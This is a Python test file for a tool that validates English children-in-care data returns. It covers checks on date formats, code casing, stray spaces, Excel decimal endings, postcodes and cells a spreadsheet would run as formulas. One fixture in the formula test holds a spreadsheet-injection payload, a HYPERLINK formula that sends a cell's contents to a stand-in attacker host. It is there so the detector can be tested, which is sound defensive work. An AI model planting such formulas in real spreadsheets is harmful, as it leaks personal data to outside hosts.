"""careboard's own checks (CB-...): every repair the reader made, cells it could not read that no DfE
rule reports, file-level repairs, and values a spreadsheet would run as formulas.

Each repaired cell is flagged where it is, every one of them (not only the first of a column), because
the return the DfE receives still holds it as found.
"""

from harness import check, flagged

from careboard.returns.reader import return_from_rows
from careboard.store.load import load_returns
from careboard.validate.engine import run_rules
from fresh_db import fresh_database


def hdr(child, **kw):
    return {"CHILD": child, "SEX": "F", "DOB": "01/01/2012", "ETHNIC": "WBRI", "UPN": "UN1", **kw}


def ep(child, decom="01/05/2025", **kw):
    return {"CHILD": child, "DECOM": decom, "RNE": "S", "LS": "C2", "CIN": "N1", "PLACE": "U4",
            "PLACE_PROVIDER": "PR1", "HOME_POST": "ME14 1AB", "PL_POST": "ME15 6AB", **kw}


def test_dates_not_written_dd_mm_yyyy_every_one():
    check("CB-FMT-DATE", {
        "Header": [
            hdr("1", DOB="02/04/2004"),
            hdr("2", DOB="2004-04-02", _flag=True),
            hdr("3", DOB="2/4/2004", _flag=True),
            hdr("4", DOB="02/04/2004 00:00:00", _flag=True),
            hdr("5", DOB="2004-04-03", _flag=True),  # the second ISO date of the column is reported too
            hdr("6", DOB="31/02/2004"),  # not a date at all: rule 102's finding
            hdr("7", DOB=None),
        ],
        "Episodes": [ep("1", "2025-05-01", _flag=True), ep("2", "01/06/2025")],
    })


def test_codes_not_written_as_the_dfe_writes_them():
    check("CB-FMT-CASE", {
        "Header": [hdr("1", SEX="m", _flag=True), hdr("2", SEX="M"), hdr("3", ETHNIC="wbri", _flag=True)],
        "Episodes": [ep("1", PLACE="u4", _flag=True), ep("2", PLACE="U4"), ep("3", PLACE="Q9")],
        "PrevPerm": [{"CHILD": "1", "PREV_PERM": "P1", "DATE_PERM": "ZZ/05/2019", "_flag": True},
                     {"CHILD": "2", "PREV_PERM": "P1", "DATE_PERM": "zz/05/2019"}],
    })


def test_spaces_around_values():
    check("CB-FMT-SPACE", {"Header": [hdr(" 1", _flag=True), hdr("2", ETHNIC="WBRI ", _flag=True), hdr("3")]})


def test_excel_decimal_endings():
    check("CB-FMT-EXCEL", {
        "Header": [hdr("1234.0", _flag=True), hdr("2", MOTHER="1.0", _flag=True), hdr("3", MOTHER="1")],
        "OC2": [{"CHILD": "2", "SDQ_SCORE": "7.0", "_flag": True}, {"CHILD": "3", "SDQ_SCORE": "7"}],
    })


def test_thousands_separators_in_identifiers():
    check("CB-FMT-THOUSANDS", {"Header": [hdr("12,345", _flag=True), hdr("12345"), hdr("1,2345")]})


def test_postcodes_tidied():
    check("CB-FMT-POSTCODE", {"Episodes": [
        ep("1", HOME_POST="me14 1ab", _flag=True), ep("2", PL_POST="ME15  6AB", _flag=True), ep("3"),
    ]})


def test_unreadable_cells_no_dfe_rule_reports():
    check("CB-FMT-UNREADABLE", {
        "Header": [hdr("1", DOB="31/02/2012")],  # rule 102 reports it in the DfE's words
        "OC2": [{"CHILD": "1", "SDQ_SCORE": "ten", "_flag": True}, {"CHILD": "2", "SDQ_SCORE": "10"}],
        "Reviews": [
            {"CHILD": "1", "DOB": "31/02/2012", "REVIEW": "01/06/2025", "REVIEW_CODE": "PN1", "_flag": True},
            {"CHILD": "2", "DOB": "01/01/2012", "REVIEW": "31/06/2025", "REVIEW_CODE": "PN1"},  # rule 166's
        ],
        "PrevPerm": [{"CHILD": "1", "PREV_PERM": "P1", "DATE_PERM": "May 2019"}],  # rule 632's
    })


def test_file_level_repairs():
    # A table that is not collected in the year is ignored by the reader: reported for the whole file.
    got = flagged("CB-FMT-FILE", {"Header": [hdr("1")], "DoLo": [{"CHILD": "1", "DOLO_START": "01/06/2025"}]})
    assert got == {("DoLo", 0)}
    assert flagged("CB-FMT-FILE", {"Header": [hdr("1")]}) == set()


def test_values_a_spreadsheet_would_run_as_formulas():
    check("CB-ID-FORMULA", {
        "Header": [
            hdr('=HYPERLINK("http://evil.example/?leak="&B2,"Click me")', _flag=True),
            hdr("2", UPN="+441234", _flag=True),
            hdr("3", UPN="A=B"),
            hdr("4", ETHNIC="-", _flag=True),
            hdr("5"),
        ],
        "Episodes": [ep("5", URN="@SUM(1)", _flag=True), ep("5", URN="1-2")],
        "SWEpisodes": [{"CHILD": "5", "SW_ID": "=1+1", "_flag": True}],
    })


def test_format_findings_say_where_what_and_what_the_dfe_expects():
    con = fresh_database()
    ret = return_from_rows("ssda903", "886", 2026, {"Header": [hdr("1"), hdr("2", DOB="2004-04-02")]},
                           strict=False)
    (outcome,) = load_returns(con, [ret])
    result = run_rules(con, outcome.load_id, 2026, "886", invalid=ret.invalid_cells, only=["CB-FMT-DATE"])
    (f,) = result.findings.to_pylist()
    assert (f["rule"], f["tbl"], f["source_row"], f["child"], f["field"], f["value"]) == (
        "CB-FMT-DATE", "Header", 2, "2", "DOB", "2004-04-02")
    assert f["note"] == "ISO date (yyyy-mm-dd) read as a date; the DfE expects dates written dd/mm/yyyy"
